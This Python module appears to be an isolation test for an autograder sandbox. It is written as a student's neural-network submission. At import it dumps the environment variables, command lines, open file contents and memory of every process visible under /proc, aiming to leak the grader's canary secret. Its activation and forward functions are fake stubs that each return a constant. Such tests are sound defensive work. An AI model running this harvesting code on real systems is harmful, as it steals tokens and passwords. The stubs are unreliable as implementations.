"""Reading secrets: the grader's environment variables and process memory.

Attack: at import the module prints its own ``os.environ`` and, for every
process it can see in ``/proc``, that process's ``environ``, ``cmdline``,
the targets of its open file descriptors (and up to 4 KB read from each),
and a read of the first readable mapping in ``/proc/<pid>/mem``. The
grader's own environment can hold tokens and passwords (a database URL, an
LMS API key); the test puts a canary secret there.

Success would look like: the canary secret from the grader's environment in
the output or in any message.
Backends: bwrap, docker
Unisolated: not promised; the subprocess worker runs as the grader's user and can read /proc/<grader pid>/environ
"""

import os

import numpy as np

W = 12345.678
print("my environment:", dict(os.environ))


def _read(path, n=4096):
    try:
        with open(path, "rb") as f:
            return f.read(n)
    except OSError as exc:
        return f"<{exc.strerror}>".encode()


for entry in sorted(os.listdir("/proc")):
    if not entry.isdigit() or int(entry) == os.getpid():
        continue
    base = f"/proc/{entry}"
    print(entry, "environ", _read(f"{base}/environ", 65536))
    print(entry, "cmdline", _read(f"{base}/cmdline", 65536))
    try:
        for fd in os.listdir(f"{base}/fd"):
            target = os.readlink(f"{base}/fd/{fd}")
            print(entry, "fd", fd, target, _read(f"{base}/fd/{fd}", 4096) if not target.startswith("pipe") else "")
    except OSError as exc:
        print(entry, "fds:", exc.strerror)
    try:
        with open(f"{base}/maps") as maps, open(f"{base}/mem", "rb") as mem:
            for line in maps:
                start = int(line.split("-")[0], 16)
                if "r" in line.split()[1]:
                    mem.seek(start)
                    print(entry, "mem", mem.read(65536))
                    break
    except (OSError, ValueError) as exc:
        print(entry, "mem:", getattr(exc, "strerror", exc))


def _w(shape):
    return np.full(shape, W)


def sigmoid(z):
    return _w(np.shape(z))


def sigmoid_grad(z):
    return _w(np.shape(z))


def tanh(z):
    return _w(np.shape(z))


def tanh_grad(z):
    return _w(np.shape(z))


def relu(z):
    return _w(np.shape(z))


def relu_grad(z):
    return _w(np.shape(z))


def leaky_relu(z, alpha=0.01):
    return _w(np.shape(z))


def leaky_relu_grad(z, alpha=0.01):
    return _w(np.shape(z))


def neuron(x, w, b, activation="sigmoid"):
    return _w(np.shape(x)[:-1])


def affine_forward(x, w, b):
    return _w((np.shape(x)[0], np.shape(w)[1])), None


def mlp_forward(x, params, activation="relu"):
    return _w((np.shape(x)[0], np.shape(params[-1][0])[1]))
